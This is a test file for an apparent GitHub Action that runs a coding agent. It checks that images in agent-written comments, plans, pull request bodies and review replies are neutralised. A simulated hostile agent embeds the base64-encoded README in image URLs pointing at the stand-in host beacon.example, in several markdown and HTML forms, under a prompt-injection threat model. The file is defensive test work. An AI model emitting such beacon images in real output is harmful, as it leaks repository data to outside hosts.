// Trust boundary, "make a reader's browser send repository data to another
// host": an agent that follows hidden instructions puts images whose URLs carry
// the repository's README (base64 in the query) into everything it writes that
// is posted: its questions, the plan, the done summary (the pull request's
// body and the done comment), its replies in review threads, and a blocked
// signal whose refusal quotes it (the blocked comment, the tracking comment,
// the job summary's table). Every
// form: inline, reference-style, shortcut, <img>, <picture><source srcset>.
// Nothing the action sends GitHub, nor its job summary, renders any of them;
// each is still a link a person can click, with the word saying why.
import { describe, expect, it } from 'vitest';
import { IMAGE_NOT_SHOWN } from '../../src/core/neutralize.js';
import { foreignImages, render } from '../helpers/beacons.js';
import { useFakeGitHub } from '../helpers/fake-github.js';
import { writeFakeCli } from '../helpers/fake-cli.js';
import { checkout, commentEvent, labeledEvent, makeRemote, reviewEvent, runBuiltAction, type ActionRun } from '../helpers/runner.js';

const github = useFakeGitHub({ Codertocat: 'admin' });

const BEACONING_AGENT = `
const phase = process.env.SAMOCODE_PHASE;
const session = process.env.SAMOCODE_SESSION_PATH;
const leak = Buffer.from(fs.readFileSync('README.md')).toString('base64url');
const B = 'https://beacon.example/p.png?d=' + leak;
const INLINE = '![diagram](' + B + ') <img src="' + B + '"> <picture><source srcset="' + B + '"><img src="' + B + '"></picture> ![ref][b]';
const BLOCK = INLINE + '\\n\\n![shortcut]\\n\\n[b]: ' + B + '\\n[shortcut]: ' + B + '\\n';
const ok = () => emit({ type: 'result', subtype: 'success', is_error: false, total_cost_usd: 0, num_turns: 1 });
const once = (name) => { const f = path.join(dir, name); const was = fs.existsSync(f); fs.writeFileSync(f, ''); return !was; };
if (stdin.includes('BLOCK-WITH-A-BEACON')) {
  // A signal naming a phase that does not exist: the refusal quotes it, in the blocked comment and the job summary's table.
  signal({ status: 'continue', phase: INLINE });
} else if (phase === 'init') signal({ status: 'continue', phase: 'investigation' });
else if (phase === 'investigation') signal({ status: 'continue', phase: 'requirements' });
else if (phase === 'requirements') {
  if (once('asked')) {
    fs.writeFileSync(path.join(session, '_qa.md'), '# Questions\\n\\n### Q1: Which greeting? ' + INLINE + '\\nA) Hello ' + INLINE + '\\nB) Hi\\n**Suggestion:** A - ' + INLINE + '\\n**Answer:** _waiting_\\n');
    signal({ status: 'waiting', phase: 'requirements', for: 'qa_answers' });
  } else signal({ status: 'continue', phase: 'planning' });
} else if (phase === 'planning') {
  fs.writeFileSync(path.join(session, '12-01-00:00-plan.md'), '# Plan\\n\\nWrite greeting.txt.\\n\\n' + BLOCK);
  signal({ status: 'waiting', phase: 'planning', for: 'plan_approval' });
} else if (phase === 'implementation') {
  const ids = [...stdin.matchAll(/Review thread (PRRT_[A-Za-z0-9_]+)/g)].map((m) => m[1]);
  fs.appendFileSync('greeting.txt', 'hello\\n');
  if (ids.length) fs.writeFileSync(path.join(session, '_review.json'), JSON.stringify({ threads: ids.map((id) => ({ id, addressed: true, reply: 'done ' + BLOCK })) }));
  signal({ status: 'continue', phase: 'testing' });
} else if (phase === 'testing') signal({ status: 'continue', phase: 'quality' });
else if (phase === 'quality') signal({ status: 'continue', phase: 'done' });
else signal({ status: 'done', phase: 'done', summary: 'greeting.txt says hello.\\n\\n' + BLOCK });
ok();
`;

/** Every text the action sent GitHub to show: comment, pull request and reply bodies. */
const postedBodies = () =>
  github.requests
    .filter((r) => r.method !== 'GET' && r.body && typeof (r.body as { body?: unknown }).body === 'string')
    .map((r) => ({ where: `${r.method} ${r.path}`, body: (r.body as { body: string }).body }));

const beaconLink = /<a href="https:\/\/beacon\.example\/p\.png\?d=[^"]+">/;

describe('trust boundary: images in agent text call no other host', () => {
  it('questions, plan, pull request body, done comment, thread replies, blocked reason and job summary render no beacon', async () => {
    const agent = await writeFakeCli('claude', BEACONING_AGENT);
    const inputs = { provider: 'claude', 'cli-path': agent.path };
    const remote = makeRemote();
    const runs: ActionRun[] = [];
    const run = async (event: string, payload: Record<string, unknown>) => {
      const result = await runBuiltAction({ apiUrl: github.url, snapshotFrom: github, workspace: checkout(remote), event, payload, inputs });
      // A blocked session fails the job (its error holds the reason); every other run succeeds.
      expect(result.code, result.stdout).toBe(result.outputs.status === 'blocked' ? 1 : 0);
      runs.push(result);
      return result;
    };

    github.addIssue({ number: 191, title: 'Say hello', body: 'Add greeting.txt.', labels: ['samocode'] });
    expect((await run('issues', labeledEvent(191))).outputs).toMatchObject({ status: 'waiting', phase: 'requirements' });
    github.addComment(191, 'Codertocat', 'Q1: A');
    expect((await run('issue_comment', commentEvent(191, 'Q1: A'))).outputs).toMatchObject({ status: 'waiting', phase: 'planning' });
    github.addComment(191, 'Codertocat', '/approve');
    const done = await run('issue_comment', commentEvent(191, '/approve'));
    expect(done.outputs.status).toBe('done');
    const pull = github.pulls[0]!;
    github.review.addReview(pull.number, 'Codertocat', 'COMMENTED', 'One thing.', [{ path: 'greeting.txt', line: 1, body: 'Say hello to the world.' }]);
    expect((await run('pull_request_review', reviewEvent(pull.number, done.outputs.branch!, 'Codertocat', 'commented', 'One thing.'))).outputs.status).toBe('done');

    github.addIssue({ number: 192, title: 'BLOCK-WITH-A-BEACON', body: 'Stop at once.', labels: ['samocode'] });
    const blocked = await run('issues', labeledEvent(192));
    expect(blocked.outputs.status).toBe('blocked');

    const posted = postedBodies();
    // The agent's words reached each kind of post, so the defence had something to do there.
    const kinds: [string, RegExp][] = [
      ['questions', /samocode:questions/],
      ['plan', /samocode:plan/],
      ['pull request body', /samocode:pr/],
      ['done comment', /samocode:done/],
      ['thread reply', /samocode:review-reply/],
      ['review round comment', /samocode:review-round/],
      ['blocked comment', /samocode:blocked/],
      ['tracking comment', /samocode:tracking/],
    ];
    for (const [kind, mark] of kinds) {
      const bodies = posted.filter((p) => mark.test(p.body) && p.body.includes('beacon.example'));
      expect(bodies.length, `${kind} carries the agent's text`).toBeGreaterThan(0);
      expect(bodies.some((p) => p.body.includes(IMAGE_NOT_SHOWN)), `${kind} says why`).toBe(true);
    }
    for (const { where, body } of posted) expect(foreignImages(body), `${where}:\n${body}`).toEqual([]);
    // Still links a person can follow (the plan's rendered part, the pull request's summary).
    expect(posted.filter((p) => beaconLink.test(render(p.body))).length).toBeGreaterThan(3);

    expect(blocked.summary).toContain('beacon.example');
    for (const { summary } of runs) expect(foreignImages(summary), summary).toEqual([]);
  });
});
